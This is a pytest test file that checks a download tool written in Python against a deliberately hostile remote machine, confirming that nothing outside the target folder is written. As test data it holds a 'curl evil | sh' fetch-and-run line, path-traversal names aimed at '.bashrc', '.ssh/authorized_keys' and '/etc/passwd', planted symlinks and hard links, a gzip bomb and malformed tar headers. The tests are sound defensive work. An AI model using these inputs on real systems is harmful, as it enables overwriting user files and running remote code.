"""What a hostile machine can do to the computer that downloads from it: nothing outside of the target."""

from __future__ import annotations

import asyncio
import gzip
import hashlib
import os
import shutil
import zlib
from collections.abc import AsyncIterator, Callable, Iterator
from pathlib import Path

import pytest
from lying_machine import MTIME, LyingMachine, archive, folder_listing, lines, snapshot

from trainyard.lib.errors import Error, InvalidError, NotFoundError
from trainyard.transport.copy import CopyOptions, CopyReport, download, downloading
from trainyard.transport.copy import listing as listing_module
from trainyard.transport.local import LocalTransport

Machine = Callable[..., LyingMachine]
LARGE = 64 * 1024  # in these tests a file from here on comes in parts; else it is 32 MiB


@pytest.fixture(autouse=True)
def _large_is_small(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(downloading, "LARGE", LARGE)


@pytest.fixture
async def machine(tmp_path: Path) -> AsyncIterator[Machine]:
    made: list[LyingMachine] = []

    def make(**answers: object) -> LyingMachine:
        made.append(LyingMachine(tmp_path / "machine", **answers))  # type: ignore[arg-type]  # passed through
        return made[-1]

    yield make
    for one in made:
        await one.aclose()


@pytest.fixture
def target(tmp_path: Path) -> Iterator[Path]:
    """Where the download may write. Whatever lies beside it and in the home must be the same afterwards."""
    home = tmp_path / "user"
    (home / ".ssh").mkdir(parents=True)
    (home / ".bashrc").write_text("mine")
    (home / ".ssh/authorized_keys").write_text("mine")
    (home / "work/beside").mkdir(parents=True)
    (home / "work/beside/notes").write_text("mine")
    place = home / "work" / "target"
    before = snapshot(home, without=place)
    yield place
    assert snapshot(home, without=place) == before


def part_signature(source: str, name: str, size: int) -> str:
    """As the machine can compute it: it knows every word."""
    text = f"{size} {MTIME * 1_000_000_000} ./{source} {name}"
    return hashlib.sha256(text.encode()).hexdigest()[:16]


# -- the attacks that worked once ----------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", ["", "-", "-0", "-0123456789abcdef"])
async def test_a_part_file_is_never_opened_through_a_link_when_the_machine_plants_one(
    machine, target, tmp_path, suffix
):
    # The archive brings a link under the name that the part of the large file will have.
    name = f".trainyard-part-{part_signature('x', 'model', LARGE)}{suffix}"
    bashrc = tmp_path / "user/.bashrc"
    lying = machine(
        listings={"x": folder_listing(("l", name, 5), ("f", "model", LARGE))},
        archive=archive((".", "folder", ""), (name, "link", bashrc)),
        rest=b"curl evil | sh\n".ljust(LARGE, b"\n"),
    )
    await download(lying, "x", target)
    assert bashrc.read_text() == "mine"
    assert (target / "model").stat().st_size == LARGE
    # Nor where the link was there before.
    (target / "model").unlink()
    (target / name).symlink_to(bashrc)
    await download(lying, "x", target)
    assert bashrc.read_text() == "mine"
    assert not (target / "model").is_symlink()


@pytest.mark.parametrize("delete", [False, True])
@pytest.mark.parametrize("answer", [b"./p/..", b"./p/.", b"./x/..", b"./p/../p", b"./p/a/..", b"../p", b"/"])
async def test_no_match_leads_out_of_the_target_when_the_machine_answers_dots(
    machine, target, answer, delete
):
    source = answer.decode().removeprefix("./")
    lying = machine(
        matches=[answer],
        listings={source: folder_listing(("f", "evil", 1))},
        archive=archive((".", "folder", ""), ("evil", "file", b"e")),
    )
    with pytest.raises(NotFoundError):
        await download(lying, "p/.*", target, options=CopyOptions(delete=delete))
    assert not (target.parent / "evil").exists()


async def test_nothing_above_is_copied_or_pruned_when_a_pattern_fits_dots(tmp_path, target):
    home = tmp_path / "machine"
    (home / "p/.cache").mkdir(parents=True)
    (home / "p/.profile").write_text("p")
    (home / "secret").write_text("s")
    transport = LocalTransport(home, {"HOME": str(home), "PATH": os.environ["PATH"]})
    target.mkdir()
    try:
        await download(transport, "p/.*", target, options=CopyOptions(delete=True))
    finally:
        await transport.aclose()
    assert sorted(path.name for path in target.iterdir()) == [".cache", ".profile"]


# -- names ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("pattern", "answers"),
    [
        ("*.log", [b"./.bashrc", b"./a/b.log", b"./authorized_keys", b"/etc/x.log", b"./.x.log"]),
        ("p/*", [b"./q/x", b"./p", b"./p/x/y", b"p2/x", b"./p/.hidden", b"./p/"]),
        ("[ab]?", [b"./ccc", b"./a", b"./.a", b"./a\nb"]),
    ],
)
async def test_a_name_that_does_not_fit_the_pattern_is_refused_when_the_machine_gives_it(
    machine, target, pattern, answers
):
    answer = {name.decode().removeprefix("./"): folder_listing(("f", "evil", 1)) for name in answers}
    lying = machine(matches=answers, listings=answer, archive=archive(("evil", "file", b"e")))
    with pytest.raises(NotFoundError):
        await download(lying, pattern, target)
    assert not target.exists()
    assert lying.asked == [pattern]


@pytest.mark.parametrize("into", [False, True])
async def test_the_folder_above_is_no_name_when_it_is_the_source(machine, target, into):
    lying = machine(
        listings={"..": folder_listing(("f", "a", 1))},
        archive=archive((".", "folder", ""), ("a", "file", b"a")),
    )
    if into:
        with pytest.raises(InvalidError):
            await download(lying, "..", target, options=CopyOptions(into=True))
    else:
        await download(lying, "..", target)
        assert (target / "a").read_bytes() == b"a"


CLIMBING = ("../evil", "a/../../evil", "/evil", "..", "a/..", "../../.bashrc", "./../../.ssh/authorized_keys")


@pytest.mark.parametrize("name", CLIMBING)
async def test_nothing_is_written_outside_when_names_climb(machine, target, name):
    for kind, letter in (("file", "f"), ("link", "l"), ("folder", "d"), ("hard", "f")):
        value: object = b"e" if kind == "file" else "../../.bashrc"
        lying = machine(
            listings={"x": folder_listing((letter, name, 1), ("f", "good", 1))},
            archive=archive((".", "folder", ""), (name, kind, value), ("good", "file", b"g")),
        )
        report = await download(lying, "x", target)
        assert sorted(path.name for path in target.rglob("*")) == ["good"]
        assert any("refused" in note for note in report.notes)
        lying.listings = {"x": folder_listing(("f", name, LARGE), ("f", "good", 1))}
        lying.rest = b"e" * LARGE
        await download(lying, "x", target)


async def test_what_nobody_asked_for_is_refused_when_the_archive_brings_it(machine, target):
    lying = machine(
        listings={"x": folder_listing(("f", "good", 1), ("f", "keys.pem", 1))},
        archive=archive(
            (".", "folder", ""),
            ("good", "file", b"g"),
            ("keys.pem", "file", b"new"),
            ("more", "file", b"m"),
        ),
    )
    target.mkdir()
    (target / "keys.pem").write_text("mine")
    report = await download(lying, "x", target, options=CopyOptions(exclude=("*.pem",)))
    assert (target / "keys.pem").read_text() == "mine"
    assert not (target / "more").exists()
    assert sum("asked for" in note for note in report.notes) == 2


# -- links ---------------------------------------------------------------------------------------------------------


def links_everywhere(target: Path, name: str, outside: Path) -> Iterator[None]:
    """Put a link to `outside` at every component of `name` in turn."""
    parts = name.split("/")
    for depth in range(1, len(parts) + 1):
        shutil.rmtree(target, ignore_errors=True)
        place = target.joinpath(*parts[:depth])
        place.parent.mkdir(parents=True)
        place.symlink_to(outside)
        yield


@pytest.mark.parametrize("size", [1, LARGE])
async def test_nothing_is_written_through_a_link_when_one_stands_at_every_name(
    machine, target, tmp_path, size
):
    name = "a/b/c/model"
    lying = machine(
        listings={"x": folder_listing(("f", name, size))},
        archive=archive((".", "folder", ""), (name, "file", b"e")),
        rest=b"e" * size,
    )
    for outside in (tmp_path / "user/.ssh", tmp_path / "user/.bashrc", Path("/nowhere")):
        for _ in links_everywhere(target, name, outside):
            await download(lying, "x", target)
            assert (target / name).stat().st_size == size
            assert not (target / "a").is_symlink()


async def test_links_and_hard_links_are_no_way_out_when_the_archive_brings_both(machine, target, tmp_path):
    keys = tmp_path / "user/.ssh/authorized_keys"
    names = ["d", "d/authorized_keys", "h", "h2", "e", "e/x"]
    lying = machine(
        listings={"x": folder_listing(*[("f", name, 1) for name in names])},
        archive=archive(
            (".", "folder", ""),
            ("d", "link", keys.parent),
            ("d/authorized_keys", "file", b"evil"),
            ("h", "hard", keys),
            ("h2", "hard", "d/authorized_keys"),
            ("h2", "file", b"evil"),
            ("e", "link", "../../.ssh"),
            ("e/x", "folder", ""),
            ("d", "folder", ""),
        ),
    )
    for _ in range(2):
        await download(lying, "x", target)
    assert keys.read_text() == "mine"
    assert keys.stat().st_nlink == 1


async def test_pruning_follows_no_link_when_one_leads_out(machine, target, tmp_path):
    target.mkdir(parents=True)
    (target / "out").symlink_to(tmp_path / "user" / ".ssh")
    (target / "up").symlink_to("..")
    (target / "old").mkdir()
    (target / "old/x").write_text("x")
    lying = machine(
        listings={"x": folder_listing(("f", "good", 1))},
        archive=archive((".", "folder", ""), ("good", "file", b"g")),
    )
    await download(lying, "x", target, options=CopyOptions(delete=True))
    assert [path.name for path in target.iterdir()] == ["good"]


@pytest.mark.parametrize("kind", ["link", "folder", "fifo", "char", "hard"])
async def test_one_file_stays_a_plain_file_when_the_machine_sends_another_kind(machine, target, kind):
    # Copied on to another machine, a link would carry what it leads to.
    lying = machine(
        listings={"x": ("file", gzip.compress(f"f 640 5 {MTIME}.0 .\0".encode()))},
        archive=archive(("x", kind, "/etc/passwd")),
    )
    report = await download(lying, "x", target / "x")
    assert not (target / "x").is_symlink()
    assert not (target / "x").exists()
    assert any("asked for" in note for note in report.notes)


# -- kinds, sizes and lies -------------------------------------------------------------------------------------------


async def test_devices_and_pipes_are_skipped_when_the_machine_has_them(machine, target):
    kinds = [("p", "pipe", 0), ("c", "null", 0), ("b", "disk", 0), ("s", "socket", 0)]
    lying = machine(
        listings={"x": folder_listing(*kinds, ("f", "good", 1))},
        archive=archive(
            (".", "folder", ""),
            ("pipe", "fifo", ""),
            ("null", "char", ""),
            ("disk", "block", ""),
            ("good", "file", b"g"),
        ),
    )
    report = await download(lying, "x", target)
    assert [path.name for path in target.iterdir()] == ["good"]
    assert sum("skipped" in note for note in report.notes) == 4


async def test_a_sparse_giant_is_refused_at_once_when_the_disk_cannot_take_it(tmp_path, target):
    home = tmp_path / "machine"
    home.mkdir()
    with (home / "giant").open("wb") as file:
        file.truncate(10 * 10**12)
    transport = LocalTransport(home, {"HOME": str(home), "PATH": os.environ["PATH"]})
    try:
        with pytest.raises(InvalidError, match="are free") as caught:
            await download(transport, "giant", target)
    finally:
        await transport.aclose()
    assert caught.value.hint
    assert not target.exists()


async def test_more_than_was_announced_is_refused_when_a_large_file_goes_on(machine, target):
    lying = machine(
        listings={"x": folder_listing(("f", "model", LARGE))}, archive=archive((".", "folder", ""))
    )
    lying.rest = b"e" * (LARGE + 1)
    with pytest.raises(InvalidError, match="more of a file"):
        await download(lying, "x", target)
    assert not (target / "model").exists()


async def test_the_listing_is_refused_when_it_is_a_gzip_bomb(machine, target, monkeypatch):
    monkeypatch.setattr(listing_module, "MOST_BYTES", 1_000_000)
    packer = zlib.compressobj(wbits=31)
    bomb = b"".join(packer.compress(bytes(1_000_000)) for _ in range(200)) + packer.flush()
    lying = machine(listings={"x": ("folder", bomb)})
    with pytest.raises(InvalidError):
        await download(lying, "x", target)
    assert not target.exists()


LIES = [
    b"",
    b"not gzip at all",
    gzip.compress(b""),
    gzip.compress(lines())[:-9],
    *(
        gzip.compress(text + b"\0")
        for text in (
            b"f 640 -5 1600000000.0 ./x",
            b"f 640 5 nan ./x",
            b"f 640 5 1e400 ./x",
            b"f 999 5 1600000000 ./x",
            b"f 640 99999999999999999999999 1600000000 ./x",
            b"f 640 5 99999999999999999999 ./x",
            b"f 640 5 1600000000 x",
            b"f 640 5 1600000000 /etc/passwd",
            b"f 640",
            b"\xff\xfe",
            "f 640 ² 1600000000 ./x".encode(),
        )
    ),
]


@pytest.mark.parametrize("lie", LIES, ids=range(len(LIES)))  # compressed bytes hold the time
async def test_an_answer_is_refused_in_a_sentence_when_it_cannot_be_true(machine, target, lie):
    lying = machine(listings={"x": ("folder", lie)})
    with pytest.raises(InvalidError) as caught:
        await download(lying, "x", target)
    assert caught.value.hint
    assert not target.exists()


@pytest.mark.parametrize(
    "words", ["", "nonsense", "rough folder -5", "rough folder ²", "rough", "matches", "file"]
)
async def test_an_answer_is_refused_when_its_words_are_none_of_ours(machine, target, words):
    lying = machine(listings={"x": (words, b"x")})
    with pytest.raises(Error):
        await download(lying, "x", target)
    assert not target.exists()


def header(**fields: bytes) -> bytes:
    """One header with some fields replaced, its checksum right."""
    places = {"size": 124, "mtime": 136, "mode": 100, "kind": 156, "name": 0}
    block = bytearray(archive(("x", "file", b""))[:512])
    for name, value in fields.items():
        block[places[name] : places[name] + len(value)] = value
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def pax(text: bytes) -> bytes:
    """An attribute record, then a file."""
    size = b"%011o\0" % len(text)
    return header(kind=b"x", size=size) + text + bytes(-len(text) % 512) + header()


BROKEN = [
    header(size=b"-0000000001\0"),
    header(size=b"\xff" * 12),
    header(size=b"\x80" + b"\xff" * 11),
    header(size=b"0x00000001\0"),
    header(mtime=b"\x80" + b"\xff" * 11),
    header(mtime=b"\xff" * 12),
    header(mode=b"-000755\0"),
    header(kind=b"L", size=b"77777777777\0"),
    pax(b"0 path=x\n"),
    pax(b"-5 path=x\n"),
    pax(b"999999 path=x\n"),
    pax(b"path=x\n"),
    pax(b"12 size=-1\n\n"),
    pax(b"13 size=nan\n\n"),
    pax(b"14 mtime=inf\n\n"),
    pax(b"21 mtime=1e30000000\n\n"),
    pax(b"12 path=\0x\n\n"),
    pax(b"15 path=../../y\n"),
    header(name=b"a" * 100),
    b"\xff" * 512,
]


@pytest.mark.parametrize("stream", BROKEN)
async def test_a_broken_archive_ends_in_a_sentence_when_the_machine_sends_it(machine, target, stream):
    lying = machine(listings={"x": folder_listing(("f", "x", 1))}, archive=stream + bytes(1024))
    try:
        await asyncio.wait_for(download(lying, "x", target), 20)
    except Error:
        pass
    assert {path.name for path in target.rglob("*")} <= {"x"}


async def test_notes_stay_few_when_the_machine_causes_thousands(machine, target):
    lying = machine(
        listings={"x": folder_listing(*[("p", f"pipe{number}", 0) for number in range(5000)])},
        archive=archive((".", "folder", "")),
    )
    report = await download(lying, "x", target)
    assert len(report.notes) < 100
    assert "more" in report.notes[-1]


# -- depth ---------------------------------------------------------------------------------------------------------


def make_deep(folder: Path, depth: int, name: str = "d") -> None:
    """`depth` folders in one another, and a file in the last; each by its own descriptor."""
    folder.mkdir(parents=True)
    here = os.open(folder, os.O_RDONLY)
    for _ in range(depth):
        os.mkdir(name, dir_fd=here)
        below = os.open(name, os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    os.close(os.open("leaf", os.O_CREAT | os.O_WRONLY, dir_fd=here))
    os.close(here)


def remove_deep(folder: Path) -> None:
    """pytest's own removal recurses."""
    os.spawnlp(os.P_WAIT, "rm", "rm", "-rf", "--", str(folder))


async def deep_download(tmp_path: Path, target: Path, depth: int) -> CopyReport:
    home = tmp_path / "machine"
    make_deep(home / "x", depth)
    transport = LocalTransport(home, {"HOME": str(home), "PATH": os.environ["PATH"]})
    try:
        target.mkdir(parents=True)
        make_deep(target / "old", depth)
        return await download(transport, "x", target, options=CopyOptions(delete=True))
    finally:
        await transport.aclose()
        remove_deep(home)


async def test_a_deep_tree_comes_whole_and_an_old_one_goes_when_paths_can_hold_them(tmp_path, target):
    report = await deep_download(tmp_path, target, 1500)
    assert target.joinpath(*["d"] * 1500, "leaf").exists()
    assert [path.name for path in target.iterdir()] == ["d"]
    assert report.notes == ()
    remove_deep(target)


# Ten thousand: find's answer alone is 100 MB.
@pytest.mark.parametrize("depth", [2100, pytest.param(10_000, marks=pytest.mark.deep)])
async def test_a_tree_is_cut_with_a_note_when_it_is_deeper_than_paths_are_long(tmp_path, target, depth):
    report = await deep_download(tmp_path, target, depth)
    assert "nested too deep" in report.notes[0]
    assert (target / "d/d/d").is_dir()
    remove_deep(target)
